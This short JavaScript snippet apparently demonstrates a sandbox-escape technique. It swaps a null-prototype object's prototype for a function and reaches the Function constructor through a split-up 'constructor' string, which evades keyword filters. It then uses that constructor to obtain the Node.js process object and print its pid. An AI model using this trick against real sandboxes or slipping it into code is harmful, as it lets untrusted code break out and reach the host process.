const table = Object.assign(Object.create(null), { run: (x) => x });
Object.setPrototypeOf(table, () => 0);
console.log(table[['construc', 'tor'].join('')]('return process')().pid);
